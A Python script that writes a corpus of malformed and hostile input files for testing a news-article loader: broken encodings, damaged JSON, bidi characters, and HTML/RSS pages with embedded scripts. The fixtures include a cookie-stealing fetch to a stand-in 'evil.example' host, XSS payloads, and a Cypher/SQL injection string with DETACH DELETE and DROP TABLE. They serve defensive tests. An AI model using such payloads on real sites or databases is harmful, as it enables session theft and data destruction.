"""Write the hostile-input corpus: ``python tests/loaders/hostile/make_corpus.py``.

Every file is built from the bytes below, so the committed corpus can be checked
against this script (``test_read_hostile.py`` does). Files that would be huge
(a 50 MB line) are made by the tests in a temporary folder instead.
"""

from __future__ import annotations

import json
import random
from pathlib import Path

__all__ = ["build", "FILES"]

TRAD = (
    "據經濟日報報導,鴻海與輝達宣布擴大合作,鴻海將在高雄興建新的AI伺服器工廠,"
    "總投資金額約新台幣250億元。雙方表示,新廠預計明年第二季開始量產。\n"
    "分析師指出,這項投資顯示台灣供應鏈在AI基礎設施中的地位持續提升。"
)
SIMP = (
    "据财联社报道,阿里巴巴宣布未来三年将投入超过3800亿元人民币,用于建设云计算和AI硬件基础设施。"
    "\n该公司表示,这笔投资将超过过去十年的总和。市场人士认为,此举将带动国产算力芯片需求。"
)
EN = (
    "SoftBank said on Tuesday it had agreed to buy Ampere Computing for $6.5 billion in cash, "
    "deepening its bet on chips for artificial intelligence data centres.\n"
    "The deal is expected to close in the second half of the year, the company said."
)


def _line(**fields: object) -> str:
    return json.dumps(fields, ensure_ascii=False) + "\n"


def _jsonl(*lines: str) -> bytes:
    return "".join(lines).encode("utf-8")


def _binary(seed: int, size: int, head: bytes) -> bytes:
    return head + random.Random(seed).randbytes(size)


HTML_WITH_SCRIPTS = """<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<title>Chipmaker deal | Example Wire</title>
<meta property="og:title" content="Micron to supply memory chips for Stargate">
<meta property="article:published_time" content="2025-10-02T08:30:00+00:00">
<script>var leaked = "SCRIPT_IN_HEAD"; fetch("https://evil.example/?c=" + document.cookie);</script>
<style>body { color: STYLE_RULE; }</style>
</head>
<body onload="alert('ONLOAD_ATTRIBUTE')">
<nav><a href="/">Home</a> | <a href="javascript:alert('JS_LINK')">Markets</a></nav>
<article>
<h1>Micron to supply memory chips for Stargate</h1>
<p>Micron Technology said on Thursday it would supply high-bandwidth memory to the Stargate
project, the data-centre venture of OpenAI, Oracle and SoftBank.</p>
<script>document.write("SCRIPT_IN_BODY")</script>
<iframe src="https://ads.example/frame">IFRAME_FALLBACK_TEXT</iframe>
<noscript>NOSCRIPT_TEXT</noscript>
<p>The agreement covers several years of supply, the company said, without giving a value.
Analysts expect memory demand for AI servers to double next year.</p>
<svg><script>alert("SCRIPT_IN_SVG")</script><text>SVG_TEXT</text></svg>
</article>
<script src="https://cdn.example/tracker.js"></script>
</body></html>
"""

SCRIPTS_ONLY_HTML = """<html><head><script>alert("only code here")</script></head>
<body><script>document.body.innerHTML = "<p>fake article</p>";</script>
<iframe src="https://ads.example/"></iframe></body></html>
"""

GBK_HTML = (
    '<html><head><meta http-equiv="Content-Type" content="text/html; charset=gbk">'
    "<title>阿里巴巴加码AI</title></head><body><article><h1>阿里巴巴加码AI</h1>"
    + "".join(f"<p>{para}</p>" for para in SIMP.split("\n"))
    + "</article></body></html>"
)

RSS_WITH_SCRIPTS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Example Markets Wire</title><link>https://wire.example/</link>
<item><title>Broadcom wins OpenAI chip order</title><link>https://wire.example/1</link>
<pubDate>Mon, 13 Oct 2025 14:00:00 GMT</pubDate>
<description><![CDATA[<p>OpenAI will deploy 10 gigawatts of custom accelerators developed with
Broadcom.</p><script>alert("FEED_SCRIPT")</script>
<iframe src="x">FEED_IFRAME</iframe>]]></description>
</item>
<item><title>CoreWeave expands Meta contract</title><link>https://wire.example/2</link>
<pubDate>Tue, 30 Sep 2025 09:00:00 GMT</pubDate>
<description>CoreWeave signed a $14.2 billion agreement to supply Meta with computing
capacity.&lt;script&gt;alert("ESCAPED_SCRIPT")&lt;/script&gt;</description>
</item></channel></rss>
"""

ATOM_ONE_EMPTY = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom Wire</title><id>urn:wire</id>
<updated>2025-10-06T00:00:00Z</updated>
<entry><title>AMD and OpenAI sign GPU deal</title><id>urn:1</id>
<link href="https://atom.example/1"/><updated>2025-10-06T12:00:00Z</updated>
<content type="html">&lt;p&gt;AMD granted OpenAI a warrant for up to 160 million
shares.&lt;/p&gt;</content>
</entry>
<entry><title>Headline only</title><id>urn:2</id><updated>2025-10-07T12:00:00Z</updated></entry>
</feed>
"""

SITEMAP = """<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<url><loc>https://wire.example/1</loc></url></urlset>
"""

CYPHER = "Evil'Co\\\"}) DETACH DELETE n // $param `tick` {name: 'x'} MATCH (m) SET m.x=1"

FILES: dict[str, bytes] = {
    "empty.txt": b"",
    "whitespace_only.md": " \n\t\u200b\u3000\r\n \u00a0\n".encode(),
    "binary_png.txt": _binary(1, 4096, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
    "utf16_without_bom.jsonl": _line(title="t", body=EN).encode("utf-16-le"),
    "truncated_utf8.txt": ("標題\n" + TRAD).encode()[:-2],
    "damaged_utf8_line.jsonl": _line(title="好", body=SIMP).encode()
    + _line(title="坏", body=SIMP).encode("gbk")
    + _line(title="ok", body=EN).encode(),
    "gb18030_undeclared.txt": ("阿里巴巴加码AI基础设施\n" + SIMP).encode("gb18030"),
    "big5_undeclared.txt": ("鴻海擴大與輝達合作\n" + TRAD).encode("big5"),
    "gbk_undeclared.jsonl": (_line(title="阿里巴巴", body=SIMP) * 2).encode("gbk"),
    "utf8_bom.txt": "\ufeffSoftBank buys Ampere\n".encode() + EN.encode(),
    "utf8_bom.jsonl": ("\ufeff" + _line(title="SoftBank", body=EN)).encode(),
    "utf16le_bom.txt": ("\ufeff鴻海擴大與輝達合作\n" + TRAD).encode("utf-16-le"),
    "utf16be_bom.jsonl": (
        "\ufeff" + _line(title="a", body=EN) + _line(title="b", body=SIMP)
    ).encode("utf-16-be"),
    "crlf.txt": ("SoftBank buys Ampere\n\n" + EN).replace("\n", "\r\n").encode(),
    "lone_cr.txt": ("SoftBank buys Ampere\r" + EN.replace("\n", "\r")).encode(),
    "crlf_bundle.txt": (
        "#AI\r\n\r\n鴻海擴大與輝達合作\r\n"
        + TRAD.replace("\n", "")
        + " (經濟日報)\r\n\r\n\r\nSoftBank buys Ampere\r\n"
        + EN.replace("\n", " ")
        + " (Example Wire)\r\n"
    ).encode(),
    "bundle_missing_body.txt": (
        "#AI\n鴻海擴大與輝達合作\n"
        + TRAD.replace("\n", "")
        + " (經濟日報)\nSoftBank buys Ampere\n"
        + EN.replace("\n", " ")
        + " (Example Wire)\nA title with no body\n"
    ).encode(),
    "zero_width.txt": (
        "Open\u200bAI and Core\u200dWeave\n\ufeffOpen\u200bAI signed a deal with Core"
        "\u200cWeave\u2060 worth $11.9 billion, the com\u00adpany said."
    ).encode(),
    "bidi_controls.jsonl": _jsonl(
        _line(title="\u202eevil\u202c title \u2066isolated\u2069", body="Nvidia\u200f invests.")
    ),
    "broken_line.jsonl": _jsonl(
        _line(title="one", body=EN),
        '{"title": "two", "body": "cut off\n',
        _line(title="three", body=SIMP),
    ),
    "duplicated_lines.jsonl": _jsonl(*[_line(title="dup", body=EN)] * 3),
    "non_object_line.jsonl": _jsonl(
        _line(title="a", body=EN), '["a", "b"]\n', _line(title="c", body=SIMP)
    ),
    "no_body.jsonl": _jsonl(
        _line(title="a", body=EN), _line(title="only a title"), _line(title="c", text=SIMP)
    ),
    "wrong_types.jsonl": _jsonl(_line(title="a", body=42), _line(title="b", content=EN)),
    "bad_date.jsonl": _jsonl(
        _line(title="a", body=EN, published="next Tuesday"),
        _line(title="b", body=SIMP, published="2025-10-06T09:00:00+08:00"),
    ),
    "deep_nesting.jsonl": _jsonl(_line(title="a", body=EN), "[" * 100_000 + "]" * 100_000 + "\n"),
    "huge_integer.jsonl": _jsonl(
        '{"title": "x", "body": "y", "shares": 1' + "0" * 5000 + "}\n", _line(title="b", body=EN)
    ),
    "big_numbers.txt": (
        "Numbers written every way\n某基金宣稱規模達99999999兆美元,另一份文件寫著1e400與-0、NaN、"
        "Infinity,以及1,000,000,000,000,000,000,000美元。"
    ).encode(),
    "nan_and_1e400.jsonl": _jsonl(
        '{"title": "numbers", "body": "1e400 shares", "score": NaN, "weight": 1e400, '
        '"neg": -Infinity}\n'
    ),
    "scripts.html": HTML_WITH_SCRIPTS.encode(),
    "scripts_only.html": SCRIPTS_ONLY_HTML.encode(),
    "gbk_meta_charset.html": GBK_HTML.encode("gbk"),
    "feed_with_scripts.rss": RSS_WITH_SCRIPTS.encode(),
    "feed_entry_without_text.atom": ATOM_ONE_EMPTY.encode(),
    "not_a_feed.xml": SITEMAP.encode(),
    "cypher_injection.jsonl": _jsonl(
        _line(
            title=CYPHER,
            body=f"{CYPHER} invests in Robert'); DROP TABLE articles;-- \\ done",
            outlet="O'Brien \\ Co",
        )
    ),
    "markup_in_text.txt": b"<b>Bold</b> claims\n<script>alert('x')</script> & "
    b"<img src=x onerror=alert(1)>",
    "no_organizations.txt": b"Weather\nIt rained all day and nobody bought anything.",
    "json_lines_named_json.json": _jsonl(_line(title="a", body=EN), _line(title="b", body=SIMP)),
    "broken_list.json": (
        "[\n" + json.dumps({"title": "a", "body": EN}) + ",\n"
        '{"title": "b", "body": "missing quote},\n'
        + json.dumps({"title": "c", "body": SIMP})
        + "\n]\n"
    ).encode(),
    "edges.jsonl": _jsonl(_line(source="nvidia", relation="invests_in", target="openai")),
    "long_title.txt": ("x" * 200 + "\n" + EN).encode(),
    # a directory mixing good, bad, hidden and foreign files
    "mixed_dir/a/good.txt": ("SoftBank buys Ampere\n" + EN).encode(),
    "mixed_dir/a/.hidden.txt": b"\x00\x01 hidden and binary: never read",
    "mixed_dir/b/broken.jsonl": _jsonl(_line(title="fine", body=SIMP), "{not json}\n"),
    "mixed_dir/empty.md": b"",
    "mixed_dir/deals.csv": b"source,relation,target\nnvidia,invests_in,openai\n",
    "mixed_dir/picture.png": _binary(2, 256, b"\x89PNG\r\n\x1a\n"),
    "mixed_dir/.cache/state.txt": b"hidden folder: never read",
    "mixed_dir/sub/page.html": HTML_WITH_SCRIPTS.encode(),
}


def build(dest: Path) -> list[Path]:
    """Write every corpus file under ``dest``; returns their paths."""
    written = []
    for name, data in FILES.items():
        path = dest / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        written.append(path)
    return written


if __name__ == "__main__":
    build(Path(__file__).resolve().parent)
